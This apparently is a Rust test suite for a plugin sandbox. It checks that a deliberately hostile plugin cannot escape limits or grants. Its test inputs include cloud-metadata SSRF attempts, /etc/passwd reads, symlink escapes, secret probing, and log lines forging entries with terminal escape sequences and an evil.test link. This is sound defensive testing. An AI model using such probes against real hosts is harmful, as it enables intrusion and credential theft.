//! Hostile plugins, each run beside a well-behaved plugin in the same host
//! process. For every attack: the host stays up, the error names the
//! plugin, the call and the limit or capability, and the well-behaved plugin
//! finishes correctly.

use sluice_tests as common;

use common::*;
use sluice_registry::builtin as plugins;
use sluice_runtime::bindings::types::{WriteMode, WriteTarget};
use sluice_runtime::log::LogSource;
use sluice_runtime::plugin::Plugin;
use sluice_runtime::sandbox::resolver::StaticResolver;
use sluice_runtime::{Batch, RowResult, Value};
use sluice_runtime::{FailureKind, Limits, PluginFailure, Runtime, Sandbox};
use std::time::{Duration, Instant};

fn target() -> WriteTarget {
    WriteTarget {
        object: "contacts".into(),
        mode: WriteMode::Upsert,
        identifier: "id".into(),
    }
}

fn rows(n: i64) -> Batch {
    Batch {
        columns: vec!["id".into(), "email".into()],
        rows: (0..n)
            .map(|i| vec![Value::Integer(i), text(&format!("user{i}@example.com"))])
            .collect(),
    }
}

/// Run the hostile plugin's attack in `write`.
async fn attack(
    runtime: &Runtime,
    config: serde_json::Value,
    sandbox: Sandbox,
) -> Result<Vec<RowResult>, PluginFailure> {
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(runtime, "hostile", &bytes).unwrap();
    let mut instance = plugin.instantiate(&sandbox).await?;
    let writer = instance.open_writer(&config.to_string(), &target()).await?;
    instance.write(&writer, &rows(3)).await
}

/// The well-behaved neighbour: the webhook plugin delivering 50 rows.
async fn well_behaved(runtime: &Runtime, receiver: &Receiver) {
    let plugin = Plugin::from_bytes(runtime, "webhook", plugins::WEBHOOK).unwrap();
    let mut instance = plugin
        .instantiate(&sandbox(&[&receiver.grant()]))
        .await
        .unwrap();
    let config = serde_json::json!({ "url": receiver.url }).to_string();
    let writer = instance.open_writer(&config, &target()).await.unwrap();
    for _ in 0..5 {
        let results = instance.write(&writer, &rows(10)).await.unwrap();
        assert!(
            results.iter().all(|r| *r == RowResult::Accepted),
            "{results:?}"
        );
    }
}

/// Run the attack and the neighbour concurrently; return the attack's outcome
/// after checking the neighbour delivered everything.
async fn side_by_side(
    test: &TestRuntime,
    name: &str,
    url: &str,
    sandbox: Sandbox,
) -> Result<Vec<RowResult>, PluginFailure> {
    let config = serde_json::json!({ "attack": name, "url": url });
    side_by_side_with(test, config, sandbox).await
}

/// [`side_by_side`] with the attack's whole config.
async fn side_by_side_with(
    test: &TestRuntime,
    config: serde_json::Value,
    sandbox: Sandbox,
) -> Result<Vec<RowResult>, PluginFailure> {
    let name = config["attack"].as_str().unwrap_or_default().to_string();
    let receiver = receiver().await;
    let (outcome, ()) = tokio::join!(
        attack(&test.runtime, config, sandbox),
        well_behaved(&test.runtime, &receiver)
    );
    let delivered: usize = receiver
        .requests
        .lock()
        .unwrap()
        .iter()
        .map(|r| r.body["data"]["rows"].as_array().unwrap().len())
        .sum();
    assert_eq!(
        delivered, 50,
        "the well-behaved plugin must deliver every row while `{name}` runs"
    );
    outcome
}

fn expect_failure(outcome: Result<Vec<RowResult>, PluginFailure>) -> PluginFailure {
    let failure = outcome.expect_err("the attack must fail");
    assert_eq!(failure.plugin, "hostile");
    assert_eq!(failure.call, "write");
    let message = failure.to_string();
    assert!(
        message.contains("plugin `hostile` failed in `write`"),
        "{message}"
    );
    failure
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn infinite_loop_hits_the_cpu_deadline() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(Limits {
        call_deadline: Duration::from_millis(300),
        ..Limits::default()
    });
    let failure = expect_failure(side_by_side(&test, "infinite-loop", "", sandbox).await);
    assert!(
        matches!(failure.kind, FailureKind::Deadline { limit_ms: 300 }),
        "{failure}"
    );
    assert!(
        failure.to_string().contains("CPU deadline of 300 ms"),
        "{failure}"
    );
}

/// Limits with a short wall-clock deadline.
fn wall_clock(limit: Duration) -> Limits {
    Limits {
        wall_deadline: limit,
        ..Limits::default()
    }
}

fn expect_wall_deadline(failure: &PluginFailure, limit_ms: u128) {
    assert!(
        matches!(failure.kind, FailureKind::WallDeadline { limit_ms: l } if l == limit_ms),
        "{failure}"
    );
    let message = failure.to_string();
    assert!(
        message.contains(&format!("wall-clock deadline of {limit_ms} ms")),
        "{message}"
    );
    assert!(!message.contains("CPU"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sleeping_for_an_hour_hits_the_wall_clock_deadline() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(wall_clock(Duration::from_secs(1)));
    let started = Instant::now();
    let failure = expect_failure(side_by_side(&test, "sleep-an-hour", "", sandbox.clone()).await);
    expect_wall_deadline(&failure, 1000);
    assert!(started.elapsed() < Duration::from_secs(30));

    // The stopped instance is poisoned; the plugin's next instance works.
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let mut instance = plugin.instantiate(&sandbox).await.unwrap();
    let w = instance
        .open_writer(r#"{"attack":"sleep-an-hour"}"#, &target())
        .await
        .unwrap();
    expect_wall_deadline(&instance.write(&w, &rows(1)).await.unwrap_err(), 1000);
    let again = instance.write(&w, &rows(1)).await.unwrap_err();
    assert!(matches!(again.kind, FailureKind::Poisoned), "{again}");
    let mut fresh = plugin.instantiate(&sandbox).await.unwrap();
    let w = fresh
        .open_writer(r#"{"attack":"env"}"#, &target())
        .await
        .unwrap();
    assert_eq!(fresh.write(&w, &rows(2)).await.unwrap().len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waiting_does_not_count_against_the_cpu_deadline() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(Limits {
        call_deadline: Duration::from_millis(300),
        wall_deadline: Duration::from_secs(20),
        ..Limits::default()
    });
    // A one-second sleep is more than the CPU deadline but is not CPU time.
    let results = side_by_side(&test, "sleep-a-second", "", sandbox)
        .await
        .unwrap();
    assert_eq!(results, vec![RowResult::Accepted; 3]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_spec_hits_the_wall_clock_deadline() {
    let test = runtime();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("slow-spec"), "").unwrap();
    let mut slow = sandbox(&[&format!("dir:{}:/hostile", dir.path().display())]);
    slow.limits = Some(wall_clock(Duration::from_secs(1)));
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let mut instance = plugin.instantiate(&slow).await.unwrap();
    let started = Instant::now();
    let failure = instance.spec().await.unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(
        (failure.plugin.as_str(), failure.call.as_str()),
        ("hostile", "spec")
    );
    expect_wall_deadline(&failure, 1000);
    // Without the marker the same plugin answers at once.
    assert_eq!(plugin.spec().await.unwrap().name, "hostile");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_writer_that_hangs_when_dropped_hits_the_wall_clock_deadline() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(wall_clock(Duration::from_secs(1)));
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let mut instance = plugin.instantiate(&sandbox).await.unwrap();
    let w = instance
        .open_writer(r#"{"attack":"slow-drop"}"#, &target())
        .await
        .unwrap();
    assert_eq!(instance.write(&w, &rows(2)).await.unwrap().len(), 2);
    let started = Instant::now();
    let failure = instance.close_writer(w).await.unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(failure.call, "writer.drop");
    expect_wall_deadline(&failure, 1000);
}

/// A server that accepts connections and never says a word.
async fn silent_server() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket);
        }
    });
    format!("http://127.0.0.1:{port}/never")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_never_answers_hits_the_host_first_byte_timeout() {
    let test = runtime();
    let url = silent_server().await;
    let grant = sluice_runtime::sandbox::policy::Grants::pattern_for_url(&url).unwrap();
    let mut sandbox = sandbox(&[&grant]);
    sandbox.limits = Some(Limits {
        http_first_byte_timeout: Duration::from_millis(500),
        ..Limits::default()
    });
    let started = Instant::now();
    // The plugin asks to wait a day; the host's maximum wins.
    let failure = expect_failure(side_by_side(&test, "http-patient", &url, sandbox).await);
    assert!(started.elapsed() < Duration::from_secs(30));
    let FailureKind::Stalled { stall, .. } = &failure.kind else {
        panic!("{failure}")
    };
    assert_eq!(stall.timeout, "HTTP first-byte");
    assert_eq!(stall.limit, Duration::from_millis(500));
    assert!(stall.host_maximum);
    let message = failure.to_string();
    assert!(
        message.contains(&format!(
            "HTTP first-byte timeout of 500 ms (the host's maximum) reached waiting on {grant}"
        )),
        "{message}"
    );
    assert!(failure.is_retryable(), "a silent server may answer later");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_stops_sending_hits_the_host_between_bytes_timeout() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let test = runtime();
    // Answers with a head and 3 of the 100 bytes it announced, then waits.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((mut socket, _)) = listener.accept().await {
            // Read the request head first: an answer before the request is
            // a protocol error to the client.
            let mut request = Vec::new();
            let mut buf = [0u8; 1024];
            while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                match socket.read(&mut buf).await {
                    Ok(n) if n > 0 => request.extend_from_slice(&buf[..n]),
                    _ => break,
                }
            }
            let head = "HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nabc";
            let _ = socket.write_all(head.as_bytes()).await;
            held.push(socket);
        }
    });
    let url = format!("http://127.0.0.1:{port}/trickle");
    let grant = format!("http://127.0.0.1:{port}");
    let mut sandbox = sandbox(&[&grant]);
    sandbox.limits = Some(Limits {
        http_between_bytes_timeout: Duration::from_millis(500),
        ..Limits::default()
    });
    let started = Instant::now();
    let failure = expect_failure(side_by_side(&test, "http-patient", &url, sandbox).await);
    assert!(started.elapsed() < Duration::from_secs(30));
    let message = failure.to_string();
    assert!(
        message.contains(&format!(
            "HTTP between-bytes timeout of 500 ms (the host's maximum) reached waiting on {grant}"
        )),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_never_answers_cannot_outlast_the_wall_clock_deadline() {
    let test = runtime();
    let url = silent_server().await;
    let grant = sluice_runtime::sandbox::policy::Grants::pattern_for_url(&url).unwrap();
    let mut sandbox = sandbox(&[&grant]);
    // The HTTP maxima stay at their defaults (minutes); the call's deadline
    // is shorter.
    sandbox.limits = Some(wall_clock(Duration::from_secs(1)));
    let started = Instant::now();
    let failure = expect_failure(side_by_side(&test, "http-patient", &url, sandbox).await);
    assert!(started.elapsed() < Duration::from_secs(30));
    expect_wall_deadline(&failure, 1000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memory_bomb_hits_the_memory_ceiling() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(Limits {
        memory_bytes: 64 << 20,
        ..Limits::default()
    });
    let failure = expect_failure(side_by_side(&test, "memory-bomb", "", sandbox).await);
    assert!(
        matches!(failure.kind, FailureKind::Memory { limit_bytes } if limit_bytes == 64 << 20),
        "{failure}"
    );
    assert!(
        failure.to_string().contains("memory ceiling of 64 MiB"),
        "{failure}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_to_a_host_not_granted_is_denied() {
    let test = runtime();
    let other = receiver().await;
    // Granted: something else entirely.
    let failure = expect_failure(
        side_by_side(
            &test,
            "http",
            &other.url,
            sandbox(&["https://api.example.com"]),
        )
        .await,
    );
    let FailureKind::Denied(denial) = &failure.kind else {
        panic!("{failure}")
    };
    assert_eq!(denial.capability, "network (http)");
    assert!(
        denial.detail.contains(&format!(
            "http://127.0.0.1:{}",
            other
                .url
                .split(':')
                .nth(2)
                .unwrap()
                .trim_end_matches("/hook")
        )),
        "{denial}"
    );
    assert!(
        denial.detail.contains("https://api.example.com"),
        "names what was granted: {denial}"
    );
    assert!(
        other.requests.lock().unwrap().is_empty(),
        "nothing reached the host"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tcp_to_postgres_not_granted_is_denied() {
    let test = runtime();
    let failure =
        expect_failure(side_by_side(&test, "tcp", "", sandbox(&["tcp://127.0.0.1:6379"])).await);
    let FailureKind::Denied(denial) = &failure.kind else {
        panic!("{failure}")
    };
    assert_eq!(denial.capability, "network (tcp)");
    assert!(denial.detail.contains("127.0.0.1:5432"), "{denial}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_granted_name_resolving_to_the_metadata_address_is_denied() {
    let test = runtime_with(|o| {
        o.resolver = StaticResolver::new()
            .with("metadata.test", &["169.254.169.254".parse().unwrap()])
            .into_arc();
    });
    let failure = expect_failure(
        side_by_side(
            &test,
            "http",
            "http://metadata.test/latest/meta-data/",
            sandbox(&["http://metadata.test"]),
        )
        .await,
    );
    let FailureKind::Denied(denial) = &failure.kind else {
        panic!("{failure}")
    };
    assert_eq!(denial.capability, "network (http)");
    assert!(
        denial
            .detail
            .contains("169.254.169.254 (cloud metadata service)"),
        "{denial}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_etc_passwd_finds_no_filesystem() {
    let test = runtime();
    let failure = expect_failure(side_by_side(&test, "read-file", "", sandbox(&[])).await);
    let message = failure.to_string();
    assert!(message.contains("reading /etc/passwd failed"), "{message}");
    assert!(!message.contains("root:"), "{message}");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_planted_in_a_writable_grant_cannot_widen_a_request() {
    use sluice_runtime::sandbox::intersect::intersect;
    use sluice_runtime::sandbox::policy::Grants;
    use std::os::unix::fs::symlink;

    let test = runtime();
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    std::fs::create_dir_all(data.join("real")).unwrap();
    std::fs::write(data.join("real/ok.txt"), "inside the grant").unwrap();
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "top secret").unwrap();
    // What a plugin holding the :rw grant could plant there.
    symlink(&outside, data.join("esc")).unwrap();
    symlink("/", data.join("root")).unwrap();
    let granted = Grants::parse(
        &[format!("dir:{}:/in:rw", data.display())],
        std::path::Path::new("/"),
    )
    .unwrap();

    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let spec = plugin.spec().await.unwrap();
    assert_eq!(spec.capabilities, ["dir:${config.dir}"]);
    let config = |dir: &str, path: &str| {
        serde_json::json!({"attack": "read-path", "dir": dir, "path": path}).to_string()
    };

    for (dir, path, link) in [
        ("/in/esc", "/in/esc/secret.txt", "esc"),
        ("/in/root", "/in/root/etc/passwd", "root"),
        ("/in/esc/deeper", "/in/esc/deeper/x", "esc"),
    ] {
        let narrowed = intersect(&spec, &config(dir, path), &granted);
        assert!(!narrowed.is_refused(), "{dir} lies inside the grant");
        let failure = plugin
            .instantiate(&Sandbox::new(narrowed.grants))
            .await
            .err()
            .unwrap_or_else(|| panic!("`{dir}` must be refused"));
        assert_eq!(
            (failure.plugin.as_str(), failure.call.as_str()),
            ("hostile", "instantiate")
        );
        let FailureKind::Denied(denial) = &failure.kind else {
            panic!("{failure}")
        };
        assert_eq!(denial.capability, "filesystem");
        let planted = data.join(link).display().to_string();
        assert!(
            denial
                .detail
                .contains(&format!("{planted} is a symbolic link")),
            "{denial}"
        );
        assert!(denial.detail.contains(dir), "names the request: {denial}");
    }

    // A real sub-directory is narrowed to as before.
    let narrowed = intersect(&spec, &config("/in/real", "/in/real/ok.txt"), &granted);
    let mut instance = plugin
        .instantiate(&Sandbox::new(narrowed.grants))
        .await
        .unwrap();
    let w = instance
        .open_writer(&config("/in/real", "/in/real/ok.txt"), &target())
        .await
        .unwrap();
    assert_eq!(
        instance.write(&w, &rows(1)).await.unwrap(),
        [RowResult::Rejected("inside the grant".into())]
    );

    // Given the whole grant, the plugin cannot follow the link out either.
    let mut instance = plugin.instantiate(&Sandbox::new(granted)).await.unwrap();
    for path in ["/in/esc/secret.txt", "/in/root/etc/passwd"] {
        let w = instance
            .open_writer(&config("/in", path), &target())
            .await
            .unwrap();
        let failure = instance.write(&w, &rows(1)).await.unwrap_err();
        let message = failure.to_string();
        assert!(
            message.contains(&format!("reading {path} failed")),
            "{message}"
        );
        assert!(
            !message.contains("top secret") && !message.contains("root:"),
            "{message}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_compile_cache_entry_is_recompiled_not_run() {
    use sluice_runtime::cache::{self, CacheOutcome};
    let dir = tempfile::tempdir().unwrap();
    let test = runtime_with(|o| o.cache_dir = Some(dir.path().to_path_buf()));
    let runtime = &test.runtime;
    let hostile = std::fs::read(common::HOSTILE_PATH).unwrap();
    let load = |name: &str, bytes: &[u8]| Plugin::from_bytes(runtime, name, bytes).unwrap();

    let first = load("hostile", &hostile);
    assert_eq!(first.cache_outcome(), CacheOutcome::Compiled);
    assert_eq!(load("hostile", &hostile).cache_outcome(), CacheOutcome::Hit);
    let hostile_entry = cache::entry_path(dir.path(), runtime.engine(), first.digest());

    // A flipped byte: recompiled, and the plugin still runs.
    let mut artifact = std::fs::read(&hostile_entry).unwrap();
    let middle = artifact.len() / 2;
    artifact[middle] ^= 0x40;
    std::fs::write(&hostile_entry, &artifact).unwrap();
    let reloaded = load("hostile", &hostile);
    assert_eq!(reloaded.cache_outcome(), CacheOutcome::Compiled);
    assert_eq!(reloaded.spec().await.unwrap().name, "hostile");
    assert_eq!(load("hostile", &hostile).cache_outcome(), CacheOutcome::Hit);

    // Another plugin's artifact, with its MAC, swapped in under pii-hash's
    // name: recompiled, and pii-hash (not hostile) runs.
    let pii = load("pii-hash", plugins::PII_HASH);
    let pii_entry = cache::entry_path(dir.path(), runtime.engine(), pii.digest());
    std::fs::copy(&hostile_entry, &pii_entry).unwrap();
    std::fs::copy(cache::mac_path(&hostile_entry), cache::mac_path(&pii_entry)).unwrap();
    let swapped = load("pii-hash", plugins::PII_HASH);
    assert_eq!(swapped.cache_outcome(), CacheOutcome::Compiled);
    assert_eq!(swapped.world(), "transform");
    assert_eq!(swapped.spec().await.unwrap().name, "pii-hash");

    // An entry without a MAC (written by someone else) is not trusted either.
    std::fs::remove_file(cache::mac_path(&pii_entry)).unwrap();
    assert_eq!(
        load("pii-hash", plugins::PII_HASH).cache_outcome(),
        CacheOutcome::Compiled
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grant_reaching_the_compile_cache_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let test = runtime_with(|o| o.cache_dir = Some(cache.clone()));
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    for (grant, relation) in [
        (format!("dir:{}:/all:rw", tmp.path().display()), "contains"),
        (format!("dir:{}:/c:rw", cache.display()), "contains"),
        (format!("dir:{}/sub/..:/c", cache.display()), "contains"),
    ] {
        let failure = plugin.instantiate(&sandbox(&[&grant])).await.err().unwrap();
        assert_eq!(
            (failure.plugin.as_str(), failure.call.as_str()),
            ("hostile", "instantiate")
        );
        let FailureKind::Denied(denial) = &failure.kind else {
            panic!("{failure}")
        };
        assert_eq!(denial.capability, "filesystem");
        assert!(
            denial.detail.contains(&format!(
                "{relation} {}, the compile cache",
                cache.display()
            )),
            "{grant}: {denial}"
        );
    }
    std::fs::create_dir_all(tmp.path().join("beside")).unwrap();
    let beside = format!("dir:{}:/b", tmp.path().join("beside").display());
    assert!(plugin.instantiate(&sandbox(&[&beside])).await.is_ok());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_environment_is_empty() {
    let test = runtime();
    std::env::set_var("SLUICE_TEST_SECRET", "hunter2");
    let results = side_by_side(&test, "env", "", sandbox(&[])).await.unwrap();
    assert_eq!(results[0], RowResult::Rejected("env: []".into()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stdout_flood_is_captured_and_capped() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(Limits {
        output_bytes: 32 << 10,
        ..Limits::default()
    });
    let results = side_by_side(&test, "stdout-flood", "", sandbox)
        .await
        .unwrap();
    assert_eq!(results.len(), 3);
    let lines = test.lines.lock().unwrap();
    let flood: Vec<_> = lines.iter().filter(|l| &*l.plugin == "hostile").collect();
    let bytes: usize = flood.iter().map(|l| l.message.len()).sum();
    assert!(bytes <= (32 << 10) + 200, "captured {bytes} bytes");
    let notices: Vec<_> = flood
        .iter()
        .filter(|l| l.source == LogSource::Host)
        .collect();
    assert_eq!(notices.len(), 1, "the cap is announced once: {notices:?}");
    assert!(
        notices[0]
            .message
            .contains("this instance's budget of 32768 bytes"),
        "{:?}",
        notices[0]
    );
    assert!(
        flood[0].message.starts_with("0 flood"),
        "lines are tagged with the plugin: {:?}",
        flood[0]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_lines_cannot_forge_lines_reach_the_terminal_or_flood() {
    let test = runtime();
    let mut sandbox = sandbox(&[]);
    sandbox.limits = Some(Limits {
        log_bytes_per_call: 4 << 10,
        ..Limits::default()
    });
    let results = side_by_side(&test, "log-injection", "", sandbox)
        .await
        .unwrap();
    assert_eq!(results, vec![RowResult::Accepted; 3]);
    let lines = test.lines.lock().unwrap();
    let hostile: Vec<_> = lines.iter().filter(|l| &*l.plugin == "hostile").collect();
    for line in &hostile {
        assert!(
            !line
                .message
                .chars()
                .any(|c| c.is_control() || c == '\u{202e}'),
            "no control character reaches the sink: {line:?}"
        );
    }
    let with = |needle: &str| {
        hostile
            .iter()
            .filter(|l| l.message.contains(needle))
            .collect::<Vec<_>>()
    };
    let forged = with("ERROR sluice: forged");
    assert_eq!(forged.len(), 1);
    assert_eq!(
        forged[0].message,
        "ok\\n2026-01-01T00:00:00Z ERROR sluice: forged\\u{1b}[2J\\u{1b}]0;pwned\\u{7}"
    );
    assert_eq!(
        with("stdout ")[0].message,
        "stdout \\u{1b}[31mred\\u{1b}[0m\\r\\u{1b}]8;;http://evil.test\\u{7}link"
    );
    assert_eq!(with("stderr ")[0].source, LogSource::Stderr);
    assert_eq!(
        with("stderr ")[0].message,
        "stderr \\u{9b}2J\\u{202e}desrever"
    );
    // The flood stops at the call's budget, announced once.
    let notices: Vec<_> = hostile
        .iter()
        .filter(|l| l.source == LogSource::Host)
        .collect();
    assert_eq!(notices.len(), 1, "{notices:?}");
    assert!(
        notices[0]
            .message
            .contains("budget of 4096 bytes for one call (limit log_bytes_per_call) in `write`"),
        "{}",
        notices[0].message
    );
    let kept: usize = hostile
        .iter()
        .filter(|l| l.source != LogSource::Host)
        .map(|l| l.message.len())
        .sum();
    assert!(kept <= 4096, "kept {kept} bytes");
    assert!(with("log flood").len() < 50, "most of the flood is dropped");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_panic_traps_and_poisons_only_that_instance() {
    let test = runtime();
    let failure = expect_failure(side_by_side(&test, "panic", "", sandbox(&[])).await);
    assert!(matches!(failure.kind, FailureKind::Trap(_)), "{failure}");
    // The call's error says where the author's code panicked, and why.
    let error = failure.to_string();
    let panic_line = include_str!("../hostile/src/lib.rs")
        .lines()
        .position(|l| l.contains("hostile plugin panicked on purpose"))
        .expect("the hostile plugin's panic")
        + 1;
    assert!(
        error.contains(&format!("panicked at src/lib.rs:{panic_line}:"))
            && error.contains(": hostile plugin panicked on purpose (")
            && error.contains("unreachable"),
        "{error}"
    );
    let lines = test.lines.lock().unwrap();
    assert!(
        lines
            .iter()
            .any(|l| &*l.plugin == "hostile" && l.message.contains("panicked on purpose")),
        "the panic message reaches the log too"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_wrong_number_of_row_results_is_a_contract_error() {
    let test = runtime();
    let failure = expect_failure(side_by_side(&test, "wrong-results", "", sandbox(&[])).await);
    assert!(
        matches!(&failure.kind, FailureKind::Contract(m) if m.contains("4 row results for a batch of 3")),
        "{failure}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trapped_instance_cannot_be_reentered_but_a_new_one_works() {
    let test = runtime();
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let mut instance = plugin.instantiate(&sandbox(&[])).await.unwrap();
    let w = instance
        .open_writer(r#"{"attack":"panic"}"#, &target())
        .await
        .unwrap();
    assert!(instance.write(&w, &rows(1)).await.is_err());
    let again = instance.write(&w, &rows(1)).await.err().unwrap();
    assert!(matches!(again.kind, FailureKind::Poisoned), "{again}");
    let mut fresh = plugin.instantiate(&sandbox(&[])).await.unwrap();
    let w = fresh
        .open_writer(r#"{"attack":"wrong-results"}"#, &target())
        .await
        .unwrap();
    assert!(matches!(
        fresh.write(&w, &rows(1)).await.err().unwrap().kind,
        FailureKind::Contract(_)
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_tenant_instance_ceiling_holds() {
    let test = runtime();
    let plugin = Plugin::from_bytes(&test.runtime, "pii-hash", plugins::PII_HASH).unwrap();
    let mut sandbox = sandbox(&[]);
    sandbox.tenant = "acme".into();
    sandbox.limits = Some(Limits {
        instances_per_tenant: 2,
        ..Limits::default()
    });
    let a = plugin.instantiate(&sandbox).await.unwrap();
    let _b = plugin.instantiate(&sandbox).await.unwrap();
    let err = plugin.instantiate(&sandbox).await.err().unwrap();
    assert!(
        matches!(err.kind, FailureKind::InstanceLimit { limit: 2 }),
        "{err}"
    );
    // Another tenant is unaffected, and a freed slot can be reused.
    let mut other = sandbox.clone();
    other.tenant = "globex".into();
    plugin.instantiate(&other).await.unwrap();
    drop(a);
    plugin.instantiate(&sandbox).await.unwrap();
}

/// Reserving a run's instances in one piece: all or nothing, waiting for
/// the tenant's to free up, never more than the ceiling, and the reserved
/// view's instances draw only from the reservation.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runs_instances_are_reserved_all_at_once_within_the_ceiling() {
    use sluice_runtime::InstanceReservation as Reserve;
    let test = runtime();
    let tenant = test.runtime.for_tenant(
        "acme",
        Limits {
            instances_per_tenant: 3,
            ..Limits::default()
        },
    );
    let wait = Duration::from_millis(200);
    assert!(matches!(
        tenant.reserve_instances(4, wait).await,
        Reserve::AboveCeiling {
            needed: 4,
            limit: 3
        }
    ));
    let Reserve::Reserved(two) = tenant.reserve_instances(2, wait).await else {
        panic!("two of three instances are free");
    };
    // Two of three are taken: a run needing two waits, then is told busy,
    // holding nothing meanwhile (one instance can still be made).
    assert!(matches!(
        tenant.reserve_instances(2, wait).await,
        Reserve::Busy
    ));
    let plugin = Plugin::from_bytes(&tenant, "pii-hash", plugins::PII_HASH).unwrap();
    let lone = plugin.instantiate(&sandbox(&[])).await.unwrap();
    // The reserved view makes exactly its two instances, not a third.
    let reserved = Plugin::from_bytes(&two, "pii-hash", plugins::PII_HASH).unwrap();
    let first = reserved.instantiate(&sandbox(&[])).await.unwrap();
    let _second = reserved.instantiate(&sandbox(&[])).await.unwrap();
    let err = reserved.instantiate(&sandbox(&[])).await.err().unwrap();
    assert!(
        matches!(err.kind, FailureKind::InstanceLimit { .. }),
        "{err}"
    );
    drop(first);
    let third = reserved.instantiate(&sandbox(&[])).await.unwrap();
    assert_eq!(test.runtime.live_instances(), 3);
    // A waiter gets its instances as soon as the reservation ends.
    let waiting = tokio::spawn({
        let tenant = tenant.clone();
        async move { tenant.reserve_instances(2, Duration::from_secs(30)).await }
    });
    tokio::time::sleep(Duration::from_millis(100)).await;
    drop((reserved, _second, third, two, lone));
    assert!(matches!(waiting.await.unwrap(), Reserve::Reserved(_)));
    assert_eq!(test.runtime.live_instances(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_a_plugin_echoes_is_never_printed_or_stored() {
    let secret = "sk_live_hostile_4242";
    // Only this test reads this variable.
    std::env::set_var("SLUICE_HOSTILE_SECRET", secret);
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("data")).unwrap();
    std::fs::write(dir.path().join("data/rows.csv"), "id,name\n1,a\n2,b\n3,c\n").unwrap();
    let yaml = format!(
        r#"
sources:
  files: {{ plugin: files, config: {{ path: /data }}, grants: ["dir:data:/data"] }}
destinations:
  api: {{ plugin: "{HOSTILE_PATH}", config: {{ attack: echo-secret, secret: "${{SLUICE_HOSTILE_SECRET}}" }} }}
models:
  rows: {{ source: files, object: rows.csv, primary_key: id }}
syncs:
  rows: {{ model: rows, destination: api, object: events, mode: upsert, identifier: id }}
"#
    );
    std::fs::write(dir.path().join("sluice.yaml"), yaml).unwrap();
    let project = sluice_config::validate(dir.path()).unwrap_or_else(|d| panic!("{d:?}"));
    let test = runtime();
    let store = std::sync::Mutex::new(sluice_state::SqliteStore::open_project(dir.path()).unwrap());
    let engine = sluice_engine::run::SyncEngine {
        project: &project,
        runtime: &test.runtime,
        store: &store,
    };
